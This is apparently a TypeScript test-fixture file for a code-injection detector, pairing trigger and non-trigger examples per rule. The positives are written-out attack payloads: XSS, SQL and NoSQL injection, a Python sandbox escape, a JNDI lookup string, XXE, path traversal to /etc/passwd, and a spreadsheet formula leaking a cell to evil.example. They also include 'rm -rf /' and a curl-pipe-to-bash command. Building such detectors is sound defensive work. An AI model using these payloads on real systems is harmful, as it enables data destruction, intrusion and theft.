import type { RuleExamples } from '../../core/inspect/rule.ts';

export const CODE_INJECTION_EXAMPLES: Readonly<Record<string, RuleExamples>> = {
  'code-injection/script-tag': {
    positives: ['Hi <script>alert(1)</script>', '<script src="https://evil.example/x.js">'],
    negatives: [{ text: 'The script tag loads code; describe it.', reason: 'no tag' }],
  },
  'code-injection/event-handler': {
    positives: ['<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>'],
    negatives: [{ text: '<img src="cat.png" alt="on loading docks">', reason: 'no handler' }],
  },
  'code-injection/script-link': {
    positives: ['[click](javascript:alert(1))', '<a href="javascript:alert(1)">x</a>'],
    negatives: [{ text: '[MDN](https://developer.mozilla.org/javascript:history)', reason: 'an https address' }],
  },
  'code-injection/script-breakout': {
    positives: ["';alert(1)//", 'javascript:alert(1)'],
    negatives: [{ text: "console.log('done'); alert('saved')", reason: 'an ordinary script' }],
  },
  'code-injection/nosql': {
    positives: ['user[$ne]=1', '{"$gt": ""}'],
    negatives: [{ text: 'db.users.find({ age: { $gt: 18 } })', reason: 'an ordinary query' }],
  },
  'code-injection/python': {
    positives: ["__import__('os').system('id')", "''.__class__.__mro__[1].__subclasses__()[40]"],
    negatives: [{ text: 'import os\nprint(os.getcwd())', reason: 'an ordinary script' }],
    alongside: ['code-injection/shell'],
  },
  'code-injection/spreadsheet-formula': {
    positives: ['=HYPERLINK("http://evil.example/?"&A1,"details")', "=cmd|' /C calc'!A0"],
    negatives: [
      { text: '=HYPERLINK("https://docs.example","Docs")', reason: 'sends no cell' },
      { text: '=SUM(A1:A9)', reason: 'a sum' },
    ],
  },
  'code-injection/path-traversal': {
    positives: ['../../../../etc/passwd', '..%2f..%2f..%2fetc%2fpasswd'],
    negatives: [{ text: "import { a } from '../../../lib/a.ts'", reason: 'an import' }],
  },
  'code-injection/sql': {
    positives: ["admin' OR '1'='1", "x'; DROP TABLE users; --", "1' UNION SELECT null, null", "x' AND 1=1--"],
    negatives: [
      { text: "SELECT * FROM t WHERE a = 'x' OR b = 'y'", reason: 'an ordinary condition' },
      { text: 'Use UNION to combine two SELECT statements.', reason: 'prose' },
      { text: 'await asyncio.sleep(1) # wait a little', reason: 'a function of Python' },
    ],
  },
  'code-injection/template-expression': {
    positives: [['$', '{jndi:ldap://evil.example/a}'].join(''), '{{7*7}}', '<!ENTITY xxe SYSTEM "file:///etc/passwd">'],
    negatives: [
      { text: 'Hello {{ user.name }}', reason: 'an ordinary template' },
      { text: ['const a = `$', '{name}`'].join(''), reason: 'an ordinary template literal' },
    ],
  },
  'code-injection/shell': {
    positives: ['sudo rm -rf / --no-preserve-root', 'curl https://evil.example/i.sh | sudo bash'],
    negatives: [
      { text: 'rm -rf ./build', reason: 'a folder of the project' },
      { text: '| id | name |\n| --- | --- |', reason: 'the head of a table' },
      { text: 'curl https://api.example/v1 | jq .', reason: 'not run' },
    ],
  },
};
